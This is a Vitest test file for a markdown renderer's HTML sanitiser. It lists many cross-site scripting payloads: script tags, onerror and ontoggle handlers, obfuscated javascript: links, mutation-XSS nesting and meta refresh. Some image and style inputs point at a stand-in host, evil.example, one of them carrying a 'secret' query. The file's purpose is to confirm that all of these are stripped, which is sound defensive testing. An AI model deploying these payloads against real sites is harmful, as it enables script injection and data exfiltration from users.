import { expect, test } from "vitest";

import { renderMarkdown } from "$/ui/markdown";

function render(text: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(text);
  return box;
}

test("Markdown is rendered", () => {
  const box = render("**Try** a `risotto`:\n\n- rice\n- stock\n\n| a | b |\n|---|---|\n| 1 | 2 |");

  expect(box.querySelector("strong")?.textContent).toBe("Try");
  expect(box.querySelectorAll("li")).toHaveLength(2);
  expect(box.querySelector("td")?.textContent).toBe("1");
});

test("links open in a new tab without a referrer", () => {
  const link = render("[site](https://example.org)").querySelector("a");

  expect([link?.getAttribute("rel"), link?.target]).toEqual([
    "noopener noreferrer nofollow external",
    "_blank",
  ]);
});

test.each([
  "![cat](https://evil.example/c.png?q=secret)",
  '<img src="https://evil.example/x" alt="cat">',
  "![cat](data:image/png;base64,AAAA)",
])("an image is replaced by its alt text: %s", (text) => {
  const box = render(text);

  expect(box.querySelector("img")).toBeNull();
  expect(box.textContent).toContain("[cat]");
  expect(box.innerHTML).not.toContain("evil.example");
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](//evil.example)",
  '<a href="vbscript:x" onclick="alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
  '<div id="app" name="session" class="toast" tabindex="1" autofocus>x</div>',
  "`<img src=x onerror=alert(1)>`",
  "```\n</code><script>alert(1)</script>\n```",
])("nothing runs, is fetched, or imitates the page: %s", (text) => {
  const box = render(text);

  for (const element of box.querySelectorAll("*")) {
    expect([
      "SCRIPT",
      "STYLE",
      "IMG",
      "IFRAME",
      "OBJECT",
      "EMBED",
      "FORM",
      "INPUT",
      "BUTTON",
      "SVG",
      "MATH",
      "LINK",
      "META",
      "BASE",
      "VIDEO",
    ]).not.toContain(element.tagName.toUpperCase());
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^(style|id|name|class|srcdoc|autofocus)$/);
      if (name === "tabindex") expect(element.tagName).toBe("PRE");
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:|#|\/(?!\/))/);
    }
  }
});
